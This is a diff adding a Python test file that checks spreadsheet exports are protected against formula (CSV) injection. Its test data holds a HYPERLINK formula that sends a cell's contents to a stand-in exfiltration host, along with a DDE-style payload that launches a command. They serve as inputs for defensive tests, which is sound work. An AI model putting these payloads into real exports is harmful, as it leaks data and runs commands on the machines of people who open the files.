@@ -1,0 +1,68 @@
+"""Files reporting staff open in a spreadsheet: text stays text, nothing runs.
+
+A desk officer's title reaches the overlaps file. Beginning with ``=``, it
+would be a formula in the reporting officer's spreadsheet (CSV or formula
+injection). XLSX keeps it as text, exactly; CSV writes it after an apostrophe.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from decimal import Decimal
+
+from openpyxl import load_workbook
+
+from shared.reporting.exports import to_csv, to_xlsx
+from shared.reporting.sheets import Sheet
+
+TITLES = [
+    '=HYPERLINK("https://exfiltration.example/?"&A1,"Détails")',
+    "+33 1 40 07 60 60",
+    "-Formation",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tIndenté",
+    "Formation = réussite",  # an equals sign further on is plain text
+    "Stage de formation",
+]
+
+
+def _sheet(titles: list[str]) -> Sheet:
+    rows = [[title, Decimal("1200.50"), index] for index, title in enumerate(titles)]
+    return Sheet(
+        name="overlaps",
+        columns=["title", "budget", "rank"],
+        rows=rows,
+        counting_rule={"fr": "=règle", "en": "rule"},
+        as_of={"police": {"position": 3, "recorded_at": None}},
+        filters={"country": "VN"},
+    )
+
+
+def test_xlsx_keeps_every_text_as_text_never_a_formula() -> None:
+    workbook = load_workbook(io.BytesIO(to_xlsx(_sheet(TITLES))))
+    data = workbook["overlaps"]
+
+    cells = [row[0] for row in data.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == TITLES
+    assert {cell.data_type for cell in cells} == {"s"}
+    budgets = {row[1].value for row in data.iter_rows(min_row=2)}
+    assert budgets == {1200.5}  # numbers stay numbers
+    about = {row[0].value: row[1] for row in workbook["about"].iter_rows()}
+    assert (about["counting_rule.fr"].value, about["counting_rule.fr"].data_type) == ("=règle", "s")
+
+
+def test_csv_defuses_text_a_spreadsheet_would_run() -> None:
+    text = to_csv(_sheet(TITLES)).decode("utf-8-sig")
+    titles = [row["title"] for row in csv.DictReader(io.StringIO(text))]
+
+    assert titles[:5] == [f"'{title}" for title in TITLES[:5]]
+    assert titles[5:] == TITLES[5:]  # the others are written as they are
+
+
+def test_xlsx_writes_what_xml_cannot_hold_as_a_replacement_character() -> None:
+    # Commands refuse control characters; a view may hold older text: the file is still made.
+    workbook = load_workbook(io.BytesIO(to_xlsx(_sheet(["Sta\x00ge\x01", "ligne\nsuite"]))))
+
+    values = [row[0].value for row in workbook["overlaps"].iter_rows(min_row=2)]
+    assert values == ["Sta\ufffdge\ufffd", "ligne\nsuite"]
